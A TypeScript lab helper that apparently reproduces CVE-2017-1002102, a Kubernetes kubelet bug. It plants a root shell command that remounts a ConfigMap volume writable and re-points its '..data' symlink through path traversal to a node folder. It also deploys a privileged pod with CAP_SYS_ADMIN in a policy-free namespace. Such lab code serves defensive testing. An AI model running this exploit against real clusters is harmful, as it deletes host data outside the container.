/**
 * An attack by root in a container that may mount. The kubelet, as root of the node, writes to the folder of a mounted
 * ConfigMap. The attacker remounts that folder writable and points its link `..data` elsewhere; at the ConfigMap's next
 * change the kubelet removes what the link points to (CVE-2017-1002102).
 */
import { mkdir, mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
import { apply, kubectl } from "../../scripts/lib/lab/lab.ts";

/** A folder of the node that no container should reach. */
export interface NodeFolder {
  /** A relative path to it from any folder in which the kubelet keeps a volume. */
  readonly link: string;
  /** What is in it. */
  files(): Promise<string[]>;
  remove(): Promise<void>;
}

export async function nodeFolder(): Promise<NodeFolder> {
  const folder = await mkdtemp("/var/tmp/drawbridge-node-");
  await mkdir(`${folder}/kept`);
  await writeFile(`${folder}/kept/file`, "the node's\n");
  return {
    link: `${"../".repeat(20)}${folder.slice(1)}/kept`,
    files: async () => (await readdir(folder, { recursive: true })).sort(),
    remove: () => rm(folder, { recursive: true }),
  };
}

/** Shell for root inside: plants the link in a mounted folder, and the file that the kubelet looks for first. */
export const plant = (mount: string, { link }: NodeFolder) =>
  `mount -o remount,bind,rw ${mount} && touch ${mount}/file && ln -sfn ${link} ${mount}/..data && readlink ${mount}/..data`;

/** A pod with a ConfigMap and CAP_SYS_ADMIN. The policies refuse it, so its namespace has none. */
export async function startCareless(namespace: string, image: string): Promise<void> {
  await apply(
    { apiVersion: "v1", kind: "Namespace", metadata: { name: namespace } },
    { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "keys", namespace }, data: { key: "first" } },
    {
      apiVersion: "v1",
      kind: "Pod",
      metadata: { name: "careless", namespace },
      spec: {
        hostUsers: false,
        automountServiceAccountToken: false,
        terminationGracePeriodSeconds: 0,
        volumes: [{ name: "keys", configMap: { name: "keys" } }],
        containers: [
          {
            name: "main",
            image,
            imagePullPolicy: "Never",
            command: ["sleep", "3600"],
            securityContext: { runAsUser: 0, capabilities: { add: ["SYS_ADMIN"] } },
            volumeMounts: [{ name: "keys", mountPath: "/keys", readOnly: true }],
          },
        ],
      },
    },
  );
  await kubectl(["-n", namespace, "wait", "--for=condition=Ready", "pod/careless", "--timeout=120s"]);
}
